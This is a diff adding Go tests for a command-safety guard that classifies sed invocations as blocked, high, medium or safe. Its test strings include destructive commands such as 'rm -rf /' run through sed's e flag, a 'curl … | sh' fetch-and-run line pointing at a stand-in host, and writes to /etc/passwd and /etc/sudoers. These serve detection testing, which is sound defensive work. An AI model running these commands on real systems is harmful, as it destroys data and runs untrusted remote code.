@@ -1,0 +1,152 @@
+package guard
+
+import (
+	"strings"
+	"testing"
+)
+
+// TestSedScan checks sed's command line: where the scripts are, the
+// input files, -i, --sandbox, --help.
+func TestSedScan(t *testing.T) {
+	for _, tt := range []struct {
+		args             []string
+		scripts, files   string
+		operands         string
+		inPlace, sandbox bool
+	}{
+		{[]string{"s/a/b/", "f"}, "s/a/b/", "", "f", false, false},
+		{[]string{"-n", "p", "f", "g"}, "p", "", "f g", false, false},
+		{[]string{"-e", "p", "f"}, "p", "", "f", false, false},
+		{[]string{"-ep", "f"}, "p", "", "f", false, false},
+		{[]string{"-ne", "p", "f"}, "p", "", "f", false, false},
+		{[]string{"-e", "p", "-e", "d", "f"}, "p|d", "", "f", false, false},
+		{[]string{"--expression=p", "f"}, "p", "", "f", false, false},
+		{[]string{"--expression", "p", "f"}, "p", "", "f", false, false},
+		{[]string{"--expr=p", "f"}, "p", "", "f", false, false},
+		{[]string{"-f", "x.sed", "f"}, "", "x.sed", "f", false, false},
+		{[]string{"--file=x.sed", "f"}, "", "x.sed", "f", false, false},
+		{[]string{"-f", "x.sed", "-e", "p", "f"}, "p", "x.sed", "f", false, false},
+		{[]string{"-i", "s/a/b/", "f"}, "s/a/b/", "", "f", true, false},
+		{[]string{"-i.bak", "s/a/b/", "f"}, "s/a/b/", "", "f", true, false},
+		{[]string{"-ie", "s/a/b/", "f"}, "s/a/b/", "", "f", true, false},
+		{[]string{"--in-place=.bak", "-e", "p", "f"}, "p", "", "f", true, false},
+		{[]string{"s/a/b/", "-i", "f"}, "s/a/b/", "", "f", true, false},
+		{[]string{"-l", "5", "l", "f"}, "l", "", "f", false, false},
+		{[]string{"--sandbox", "e ls", "f"}, "e ls", "", "f", false, true},
+		{[]string{"-E", "-s", "-u", "-z", "p"}, "p", "", "", false, false},
+		{[]string{"--", "-p", "f"}, "-p", "", "f", false, false},
+		{[]string{"-n", "--", "p", "-f"}, "p", "", "-f", false, false},
+	} {
+		a := sedScan(Lits(tt.args...))
+		vals := func(ws []Word, sep string) string {
+			var vs []string
+			for _, w := range ws {
+				vs = append(vs, w.Value)
+			}
+			return strings.Join(vs, sep)
+		}
+		if got := vals(a.scripts, "|"); got != tt.scripts {
+			t.Errorf("sedScan(%q) scripts %q, want %q", tt.args, got, tt.scripts)
+		}
+		if got := vals(a.files, "|"); got != tt.files {
+			t.Errorf("sedScan(%q) files %q, want %q", tt.args, got, tt.files)
+		}
+		if got := vals(a.operands, " "); got != tt.operands {
+			t.Errorf("sedScan(%q) operands %q, want %q", tt.args, got, tt.operands)
+		}
+		if a.inPlace != tt.inPlace || a.sandbox != tt.sandbox {
+			t.Errorf("sedScan(%q) in-place %v sandbox %v, want %v %v", tt.args, a.inPlace, a.sandbox, tt.inPlace, tt.sandbox)
+		}
+	}
+}
+
+// TestSedRules checks sed's e, s///e and w through the walker, and the
+// scripts that must stay as they were.
+func TestSedRules(t *testing.T) {
+	B, H, M, S := Blocked, High, Medium, Safe
+	runNLLines(t, []nlLine{
+		// A literal e COMMAND is a command line.
+		{"sed 'e rm -rf /' f", B, ruleRmRfRoot},
+		{"sed 'e rm -rf /'", B, ruleRmRfRoot},
+		{"sed '1e rm -rf ~' f", B, ruleRmRfHome},
+		{"sed '$e reboot' f", H, "shutdown"},
+		{"sed -n '/x/e curl -s https://x.example/i.sh | sh' f", H, ruleCurlPipeSh},
+		{"sed -e p -e 'e rm -rf /' f", B, ruleRmRfRoot},
+		{"sed --expression='1e rm -rf /' f", B, ruleRmRfRoot},
+		{"gsed 'e rm -rf /' f", B, ruleRmRfRoot},
+		{"sudo sed 'e rm -rf /' f", B, ruleRmRfRoot},
+		{"bash -c \"sed 'e rm -rf /' f\"", B, ruleRmRfRoot},
+		{"sed 'p;e rm -rf /usr' f", B, ruleRmRfSystemDir},
+		{"sed 's/a/b/\ne rm -rf /' f", B, ruleRmRfRoot},
+		{"echo 'e rm -rf /' | sed -f - f", B, ruleRmRfRoot},
+		{"sed -f /dev/stdin f <<< 'e rm -rf /'", B, ruleRmRfRoot},
+		{"sed '1e touch x' f", S, ""},
+		{"sed '1e date' f", S, ""},
+		{"sed 's/.*/date/e' f", S, ""},
+		{"sed 's/.*/rm -rf \\//e' f", B, ruleRmRfRoot},
+		{"sed 's/^.*$/reboot/e' f", H, "shutdown"},
+		// The line decides what runs.
+		{"sed 's/.*/rm -rf &/e' f", H, ruleSedExecDynamic},
+		{"sed 's/^/rm -f /e' list", H, ruleSedExecDynamic},
+		{"sed 's/x/y/e' f", H, ruleSedExecDynamic},
+		{"sed -n 's/.*/echo &/ep' f", H, ruleSedExecDynamic},
+		{"sed e cmds.txt", H, ruleSedExecDynamic},
+		{"sed '/^#/!e' cmds.txt", H, ruleSedExecDynamic},
+		{"cat cmds | sed 'e'", H, ruleSedExecDynamic},
+		{"sed 's,.*,\\U&,e' f", H, ruleSedExecDynamic},
+		// w writes files: the file rules decide.
+		{"sed -n 'w /etc/passwd' f", H, ruleWriteSystemFile},
+		{"sed 's/a/b/w /etc/sudoers' f", H, ruleWriteSystemFile},
+		{"sed -n '/x/w /etc/hosts' f", M, ruleWriteEtc},
+		{"sed -n 'w ~/.bashrc' f", M, ruleAppendRc},
+		{"sed -n \"w $1\" f", M, ruleRedirectUnknown},
+		{"sed -n 'w out.txt' f", S, ""},
+		{"sed -n '/err/w errors.log' f", S, ""},
+		{"sed 's/a/b/w changes.txt' f", S, ""},
+		{"sed -n 'w /dev/stdout' f", S, ""},
+		{"sed -n 'w /dev/stderr' f", S, ""},
+		{"sed 'r /etc/hosts' f", S, ""},
+		// A script only known at run time.
+		{"sed \"$(cat script)\" f", M, ruleSedScriptDynamic},
+		{"sed -e \"$1\" f", M, ruleSedScriptDynamic},
+		{"sed \"s/a/b/$2\" f", M, ruleSedScriptDynamic},
+		{"sed -n \"${N}p\" f", S, ""},
+		{"sed -n \"$((N+1)),\\$p\" f", S, ""},
+		{"sed \"s/$OLD/$NEW/g\" f", S, ""},
+		{"sed \"/$PAT/d\" f", S, ""},
+		// What stays as it was.
+		{"sed -n 's/a/b/p' f", S, ""},
+		{"sed -e 's/x/y/' f", S, ""},
+		{"sed '/e/d' f", S, ""},
+		{"sed 's/e/E/g' f", S, ""},
+		{"sed 'y/e/E/' f", S, ""},
+		{"sed -E 's/(e+)/[\\1]/g' f", S, ""},
+		{"sed '1!G;h;$!d' f", S, ""},
+		{"sed ':a;N;$!ba;s/\\n/ /g' f", S, ""},
+		{"sed '/^$/d;s/^[ \\t]*//' f", S, ""},
+		{"sed 'a\\\ne rm -rf /' f", S, ""},
+		{"sed 'i e rm -rf /' f", S, ""},
+		{"sed '# e rm -rf /' f", S, ""},
+		{"sed -n '/begin/,/end/{/end/!p}' f", S, ""},
+		{"sed -f script.sed f", S, ""},
+		{"sed --file=script.sed f", S, ""},
+		{"sed --sandbox 'e rm -rf /' f", S, ""},
+		{"sed --help", S, ""},
+		{"echo 'e rm -rf /' | sed 's/a/b/'", S, ""},
+		{"grep 'e rm -rf /' f", S, ""},
+		{"sed -i 's/e/E/' notes.txt", S, ""},
+		{"sed -i 's/a/b/' /etc/hosts", M, ruleWriteEtc},
+	})
+}
+
+// TestSedExamples checks that the sed rules match their examples.
+func TestSedExamples(t *testing.T) {
+	for _, b := range interpRules() {
+		if b.Name != ruleSedExecDynamic && b.Name != ruleSedScriptDynamic {
+			continue
+		}
+		if _, names := nlClassify(t, b.Example); !nlHas(names, b.Name) {
+			t.Errorf("rule %s does not match its example %q: %v", b.Name, b.Example, names)
+		}
+	}
+}
